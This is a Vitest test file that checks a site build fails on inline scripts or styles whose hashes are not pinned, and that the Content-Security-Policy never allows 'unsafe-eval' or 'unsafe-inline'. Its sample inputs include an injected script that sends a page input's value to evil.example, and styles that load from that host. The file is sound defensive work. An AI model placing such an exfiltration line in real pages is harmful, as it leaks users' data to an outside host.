/**
 * The build allows only pinned inline code: a page with an inline script (or style) that is not
 * pinned fails the build, and so does a pin that no page uses any more. The CSP lists exactly the
 * pinned hashes, and 'wasm-unsafe-eval' for Pagefind (never 'unsafe-eval' or 'unsafe-inline').
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { inlineStylesheets } from '../../src/integrations/inline-stylesheets.ts';
import { inlineCode, pageRules, pinProblems } from '../../src/integrations/security-headers.ts';
import type { PinnedInline } from '../../src/lib/security-headers.ts';

const sha = (text: string) => createHash('sha256').update(text).digest('base64');
const island = 'console.log("island bootstrap")';
const style = 'astro-island{display:contents}';
const pinned = { scripts: [{ what: 'bootstrap', sha256: sha(island) }] as PinnedInline[], styles: [{ what: 'island style', sha256: sha(style) }] as PinnedInline[] };
let dir: string;

function site(pages: Record<string, string>): string {
  dir = mkdtempSync(join(tmpdir(), 'keyprobe-pins-'));
  for (const [name, html] of Object.entries(pages)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), html);
  }
  return dir;
}
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const page = (...parts: string[]) => `<!doctype html><html><head><style>${style}</style></head><body>${parts.join('')}</body></html>`;

describe('pinned inline code', () => {
  it('the pinned scripts and styles, external scripts and JSON-LD data: nothing to report', async () => {
    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`, '<script type="module" src="/_astro/a.js"></script>', '<script type="application/ld+json">{"a":1}</script>') }));
    expect(pinProblems(found, pinned)).toEqual([]);
  });

  it('an inline script that is not pinned fails, naming the page and its hash', async () => {
    const injected = 'fetch("https://evil.example/?k="+document.querySelector("input").value)';
    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`), 'mistral/index.html': page(`<script>${island}</script>`, `<script>${injected}</script>`) }));
    const problems = pinProblems(found, pinned);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain('inline script not pinned, in mistral/index.html');
    expect(problems[0]).toContain(sha(injected));
  });

  it('an inline style that is not pinned fails too', async () => {
    const found = await inlineCode(site({ 'index.html': page(`<script>${island}</script>`, '<style>body{background:url(//evil.example)}</style>') }));
    expect(pinProblems(found, pinned).join('\n')).toContain('inline style not pinned');
  });

  it('a pin no page uses any more fails (the policy must not keep allowing it)', async () => {
    const found = await inlineCode(site({ 'index.html': page() }));
    expect(pinProblems(found, pinned)).toEqual([`pinned inline script no longer in any page: bootstrap (sha256 ${sha(island)})`]);
  });

  it("the _headers rules: one policy for every path, with the pinned hashes only and Pagefind's WebAssembly (search opens on any page)", () => {
    const rules = pageRules().split('\n\n');
    expect(rules).toHaveLength(1);
    expect(rules[0]).toMatch(/^\/\*\n {2}Content-Security-Policy: default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
    expect(rules[0]).not.toContain("'unsafe-eval'");
    expect(rules[0]).not.toContain("'unsafe-inline'");
  });

  it("the site's own stylesheets are inlined byte for byte and allowed by hash; other inline styles still fail", async () => {
    const css = ':root{--bg:#fff}body{margin:0}';
    const dir = site({
      '_astro/Base.abc.css': css,
      'index.html': `<!doctype html><html><head><link rel="stylesheet" href="/_astro/Base.abc.css"><style>${style}</style></head><body><script>${island}</script></body></html>`,
      'other/index.html': '<!doctype html><html><head><link rel="stylesheet" href="https://cdn.example/x.css"><link rel="stylesheet" href="/_astro/Base.abc.css"></head><body></body></html>',
    });
    const inlined = await inlineStylesheets(dir);
    expect(inlined).toEqual([{ file: '_astro/Base.abc.css', sha256: sha(css) }]);
    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toContain(`<head><style>${css}</style><style>${style}</style>`);
    // Only built files under /_astro/ are inlined; anything else is left as it was.
    expect(readFileSync(join(dir, 'other/index.html'), 'utf8')).toContain(`<link rel="stylesheet" href="https://cdn.example/x.css"><style>${css}</style>`);
    expect(pinProblems(await inlineCode(dir), pinned, inlined)).toEqual([]);
    expect(pinProblems(await inlineCode(dir), pinned)).toEqual([expect.stringContaining('inline style not pinned')]);
    writeFileSync(join(dir, 'third.html'), '<style>body{background:url(//evil.example)}</style>');
    expect(pinProblems(await inlineCode(dir), pinned, inlined).join('\n')).toContain('inline style not pinned, in third.html');
    expect(pageRules(false, inlined)).toContain(`'sha256-${sha(css)}'`);
  });
});
